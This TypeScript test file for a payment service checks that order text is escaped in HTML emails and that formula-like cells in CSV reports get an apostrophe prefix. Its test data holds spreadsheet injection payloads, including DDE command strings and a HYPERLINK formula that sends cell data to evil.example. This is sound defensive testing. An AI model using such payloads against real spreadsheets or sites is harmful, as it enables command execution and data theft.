import { api } from '@paydeck/contract/protocol/api'
import type { OrderRequest } from '@paydeck/contract/calls/orders'
import { afterAll, beforeAll, expect, test } from 'vitest'

import { SCRIPT_INJECTIONS } from '../../contract/test/script-injections.ts'
import { cell } from '../src/db/csv-columns.ts'
import { CARDS, startWorld, type TestMerchant, type World } from './harness.ts'
import { mailsOf } from './mails.ts'
import { readCsv } from './money/csv.ts'

/** Text that a spreadsheet would evaluate. */
const FORMULAS = [
  `=1+1`,
  `=HYPERLINK("https://evil.example?x="&A1,"click")`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `+1+1`,
  `-2+3+cmd|' /C calc'!D2`,
  `\t=1+1`,
  `\r=1+1`,
  `\n=1+1`,
  `＝1+1`,
  `＋1+1`,
  `－1+1`,
  `＠SUM(1+1)`,
]
/** The start of a formula; negative amounts are numbers, not text. */
const BEGINS_FORMULA = /^(?!-\d+\.\d\d$)[=+\-@\t\r\n＝＋－＠]/

let world: World
beforeAll(async () => {
  world = await startWorld()
})
afterAll(() => world.stop())

async function create(
  { call, merchantId }: TestMerchant,
  request: Partial<OrderRequest>,
  sendEmail = false,
) {
  const { data } = await call(api.createInvoice, {
    merchantId,
    body: {
      sendEmail,
      sendSms: false,
      orderRequest: {
        orderType: 'manual',
        internalOrderId: 'INV-7',
        paymentAmount: { amount: 1_000, currency: 'AUD' },
        customerEmail: 'jane@customer.example',
        ...request,
      },
    },
  })
  return data.order.merchantOrderId
}

test('items and custom fields are stored verbatim and returned as text', async () => {
  const merchant = await world.merchant()
  const { call, merchantId } = merchant
  const items = SCRIPT_INJECTIONS.map((description) => ({
    description,
    quantity: 1,
    amount: 100,
    currency: 'AUD' as const,
  }))
  const metadata = Object.fromEntries(SCRIPT_INJECTIONS.map((text, at) => [`field ${at}`, text]))
  const merchantOrderId = await create(merchant, {
    items,
    metadata,
    paymentAmount: { amount: 100 * items.length, currency: 'AUD' },
  })
  const { data } = await call(api.getOrder, { merchantId, merchantOrderId })
  expect(data.items.map(({ description }) => description)).toEqual(SCRIPT_INJECTIONS)
  expect(data.customFields.map(({ value }) => value).toSorted()).toEqual(
    [...SCRIPT_INJECTIONS].toSorted(),
  )
})

test('an order’s texts are text in its email', async () => {
  const merchant = await world.merchant()
  const { merchantId } = merchant
  const markup = SCRIPT_INJECTIONS.filter((text) => text.includes('<'))
  for (const [at, text] of markup.entries())
    await create(
      merchant,
      {
        internalOrderId: `${at} ${text}`.slice(0, 128),
        description: text,
        billing: { name: text },
      },
      true,
    )
  const mails = await mailsOf(world, merchantId, { recipient: 'jane@customer.example' })
  expect(mails).toHaveLength(markup.length)
  const tags = new Set(
    mails.flatMap(({ html }) => [...html.matchAll(/<\s*\/?\s*([a-z!]+)/gi)].map(([, tag]) => tag)),
  )
  for (const tag of ['script', 'img', 'svg', 'iframe', 'object', 'embed', 'input', 'base', 'math'])
    expect([...tags]).not.toContain(tag)
  for (const { html } of mails) expect(html).not.toMatch(/href="\s*(?:javascript|data):/i)
})

test('text in a report that looks like a formula begins with an apostrophe', async () => {
  const { rows } = await world.db.readerPool.query<{ cell: string }>(
    `select ${cell('word')} as cell from unnest($1::text[]) word`,
    [[...FORMULAS, 'plain', 'a=1', '']],
  )
  expect(rows.map((row) => row.cell)).toEqual([
    ...FORMULAS.map((word) => `'${word}`),
    'plain',
    'a=1',
    '',
  ])
})

test('BEY-04 no text of an order becomes a formula in the file or leaves its cell', async () => {
  const merchant = await world.merchant()
  const { merchantId } = merchant
  const texts = [...FORMULAS, ...SCRIPT_INJECTIONS.filter((text) => /^[-"]|\n/.test(text))]
  for (const word of texts) await paidAndRefunded(merchant, word)
  const day = (days: number) =>
    new Date(world.time.now().getTime() + days * 86_400_000).toISOString().slice(0, 10)
  const linesOf = async (file: string) => {
    const address = `${world.origin}/api/reports/merchants/${merchantId}/${file}`
    const answer = await fetch(`${address}?from=${day(-1)}&to=${day(1)}&timeZone=UTC`, {
      headers: { authorization: `Bearer ${merchant.token}` },
    })
    return readCsv((await answer.text()).replace(/^\uFEFF/, ''))
  }
  for (const [file, many, columns] of [
    ['payments/csv', 1, ['Order ID', 'Customer name', 'Description']],
    ['refunds/csv', 1, ['Order ID', 'Reason']],
    ['settlement/csv', 2, ['Order ID']],
  ] as const) {
    const lines = await linesOf(file)
    expect(lines).toHaveLength(many * texts.length)
    for (const text of lines.flatMap((line) => Object.values(line)))
      expect(text).not.toMatch(BEGINS_FORMULA)
    for (const column of columns)
      for (const word of texts)
        expect(lines.map((line) => line[column])).toContain(
          BEGINS_FORMULA.test(word) ? `'${word}` : word,
        )
  }
})

/** An order with a word in every text field, paid and partly refunded. */
async function paidAndRefunded(merchant: TestMerchant, word: string): Promise<void> {
  const { merchantId, call } = merchant
  const { data } = await call(api.createInvoice, {
    merchantId,
    body: {
      sendEmail: false,
      sendSms: false,
      orderRequest: {
        orderType: 'manual',
        internalOrderId: word,
        description: word,
        paymentAmount: { amount: 1_000, currency: 'AUD' },
        customerEmail: 'jane@customer.example',
        billing: { name: word },
      },
    },
  })
  const order = merchant.opened(data.order.merchantOrderId, data.token)
  const { transactionId } = await order.pay(CARDS.visa)
  const refundAmount = { amount: 100, currency: 'AUD' } as const
  await call(api.createRefund, {
    merchantId,
    body: { transactionId, refundAmount, reason: word },
  })
}
